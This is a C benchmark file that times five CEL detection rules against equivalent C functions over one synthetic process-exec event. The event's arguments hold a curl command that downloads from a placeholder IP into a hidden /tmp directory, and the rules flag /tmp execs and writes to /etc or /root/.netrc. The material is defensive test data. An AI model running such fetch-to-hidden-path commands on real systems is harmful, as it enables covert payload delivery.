/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What one condition costs: five rules over one event, each beside the same question coded in C.
 *
 *     bench-cel
 *
 * Prints nanoseconds per evaluation, the ratio to C, and the time to compile 500 rules. Times are
 * the least of several runs, because a shared machine only ever adds to them. Exits with 1 when a
 * condition takes longer than LIMIT_NANOS.
 */
#include <stdio.h>
#include <time.h>

#include "cel/cel.h"

enum {
    RUNS = 15,
    EVALUATIONS = 100 * 1000,
    COMPILED_RULES = 500,
    LIMIT_NANOS = 200,
};

static uint64_t now(void)
{
    struct timespec time;

    clock_gettime(CLOCK_MONOTONIC, &time);
    return (uint64_t)time.tv_sec * 1000000000u + (uint64_t)time.tv_nsec;
}

/* the event: a file below /tmp is executed */

static value make_event(arena *a)
{
    struct value_map_builder b = VALUE_MAP_BUILDER(a);
    struct value_list_builder args = VALUE_LIST_BUILDER(a);
    static const char *const words[] = {"curl", "-s", "http://198.51.100.7/x", "-o/tmp/.cache"};

    for (size_t i = 0; i < ARRAY_SIZE(words); i++)
        value_list_add(&args, value_string(slice_of(words[i])));
    value_map_put(&b, "kind", value_string(SLICE("exec")));
    value_map_put(&b, "pid", value_int(4711));
    value_map_put(&b, "uid", value_int(0));
    value_map_put(&b, "path", value_string(SLICE("/tmp/.cache/helper")));
    value_map_put(&b, "name", value_string(SLICE("helper")));
    value_map_put(&b, "cwd", value_string(SLICE("/home/ada/work")));
    value_map_put(&b, "interactive", value_bool(true));
    value_map_put(&b, "parent", value_string(SLICE("python3")));
    value_map_put(&b, "args", value_list_finish(&args));
    return value_map_finish(&b);
}

/* the same questions in C, with fields looked up by name as C code over a document must */

static bool field_is(const value *event, const char *field, slice text)
{
    return slice_eq(value_get_string(event, field), text);
}

static bool c_uid(const value *event)
{
    return field_is(event, "kind", SLICE("exec")) && value_get_int(event, "uid", -1) == 0;
}

static bool c_name(const value *event)
{
    static const slice names[] = {SLICE_INIT("bash"), SLICE_INIT("make"), SLICE_INIT("cc1"),
                                  SLICE_INIT("conftest")};
    slice name = value_get_string(event, "name");

    if (!field_is(event, "kind", SLICE("exec")) ||
        !slice_starts(value_get_string(event, "path"), SLICE("/tmp/")))
        return false;
    for (size_t i = 0; i < ARRAY_SIZE(names); i++)
        if (slice_eq(names[i], name))
            return false;
    return true;
}

static bool c_open(const value *event)
{
    slice path = value_get_string(event, "path");

    return field_is(event, "kind", SLICE("open")) &&
           (slice_starts(path, SLICE("/etc/")) || slice_eq(path, SLICE("/root/.netrc"))) &&
           value_get_bool(event, "write", false) && !field_is(event, "name", SLICE("dpkg"));
}

static bool c_args(const value *event)
{
    const value *args = value_get(event, SLICE("args"));

    value_each_item (args, item)
        if (slice_contains(item->text, SLICE("/tmp/.")))
            return true;
    return false;
}

static bool c_five(const value *event)
{
    const value *args = value_get(event, SLICE("args"));

    if (!field_is(event, "kind", SLICE("exec")) || value_get_int(event, "uid", -1) != 0 ||
        !value_get_bool(event, "interactive", false) || field_is(event, "parent", SLICE("cron")))
        return false;
    value_each_item (args, item)
        if (slice_starts(item->text, SLICE("http://")) && !slice_ends(item->text, SLICE(".whl")))
            return true;
    return false;
}

static const struct rule {
    const char *what;
    const char *text;
    bool (*in_c)(const value *event);
} rules[] = {
    {"equality and number", "event.kind == 'exec' && event.uid == 0", c_uid},
    {"prefix and set",
     "event.kind == 'exec' && event.path.startsWith('/tmp/') && "
     "!(event.name in ['bash', 'make', 'cc1', 'conftest'])",
     c_name},
    {"false at once",
     "event.kind == 'open' && (event.path.startsWith('/etc/') || event.path == '/root/.netrc') && "
     "event.write && event.name != 'dpkg'",
     c_open},
    {"exists over 4 words", "event.args.exists(a, a.contains('/tmp/.'))", c_args},
    {"five conjuncts",
     "event.kind == 'exec' && event.uid == 0 && event.interactive && event.parent != 'cron' && "
     "event.args.exists(a, a.startsWith('http://') && !a.endsWith('.whl'))",
     c_five},
};

static double nanos_of_program(const struct cel_program *program, const value *event, arena *a,
                               bool *ret_result)
{
    uint64_t least = UINT64_MAX;

    for (int run = 0; run < RUNS; run++) {
        uint64_t start = now();

        for (int i = 0; i < EVALUATIONS; i++) {
            struct cel_eval eval = {.slots = event, .arena = a, .cost_limit = CEL_COST_DETECT};
            value result = cel_eval(program, &eval);

            *ret_result = result.kind == VALUE_BOOL && result.boolean;
        }
        least = MIN(least, now() - start);
    }
    return (double)least / EVALUATIONS;
}

static double nanos_of_c(bool (*function)(const value *), const value *event, bool *ret_result)
{
    uint64_t least = UINT64_MAX;

    for (int run = 0; run < RUNS; run++) {
        uint64_t start = now();

        for (int i = 0; i < EVALUATIONS; i++) {
            /* The compiler must not see that the event stays the same. */
            __asm__ volatile("" : "+r"(event));
            *ret_result = function(event);
        }
        least = MIN(least, now() - start);
    }
    return (double)least / EVALUATIONS;
}

static struct cel_program *compile(const struct cel_env *env, const char *text)
{
    _cleanup_diags_ diags d = DIAGS_INIT;
    const struct cel_options options = {.result = "bool"};
    const value expression = value_string(slice_of(text));
    struct cel_program *program = NULL;

    if (cel_compile(env, &expression, &options, &d, &program) != 0)
        fprintf(stderr, "%s: %.*s\n", text, SLICE_ARG(d.list.items[0].message));
    return program;
}

/* Milliseconds for COMPILED_RULES different expressions. */
static double compile_many(const struct cel_env *env)
{
    uint64_t least = UINT64_MAX;

    for (int run = 0; run < RUNS; run++) {
        uint64_t spent = 0;

        for (int i = 0; i < COMPILED_RULES; i++) {
            _cleanup_(cel_program_freep) struct cel_program *program = NULL;
            char text[512];
            uint64_t start;

            snprintf(text, sizeof(text), "%s && event.pid != %d",
                     rules[(size_t)i % ARRAY_SIZE(rules)].text, i);
            start = now();
            program = compile(env, text);
            spent += now() - start;
        }
        least = MIN(least, spent);
    }
    return (double)least / 1e6;
}

int main(void)
{
    _cleanup_(cel_env_freep) struct cel_env *env = cel_env_new();
    _cleanup_arena_ arena a = ARENA_INIT;
    value event = make_event(&a);
    bool slow = false;

    if (cel_env_declare(env, SLICE("event"), SLICE("map(string, dyn)")) != 0)
        return 2;
    printf("%-22s %9s %9s %7s\n", "condition", "cel", "C", "ratio");
    for (size_t i = 0; i < ARRAY_SIZE(rules); i++) {
        _cleanup_(cel_program_freep) struct cel_program *program = compile(env, rules[i].text);
        _cleanup_arena_ arena scratch = ARENA_INIT;
        bool result = false, expected = false;
        double cel, c;

        if (!program)
            return 2;
        cel = nanos_of_program(program, &event, &scratch, &result);
        c = nanos_of_c(rules[i].in_c, &event, &expected);
        if (result != expected || scratch.used > 0) {
            fprintf(stderr, "%s: a wrong result, or memory was used\n", rules[i].what);
            return 2;
        }
        slow |= cel > LIMIT_NANOS;
        printf("%-22s %6.1f ns %6.1f ns %6.1fx\n", rules[i].what, cel, c, cel / c);
    }
    printf("%-22s %6.2f ms (%.1f us each)\n", "compile 500 rules", compile_many(env),
           compile_many(env) * 1000 / COMPILED_RULES);
    return slow;
}
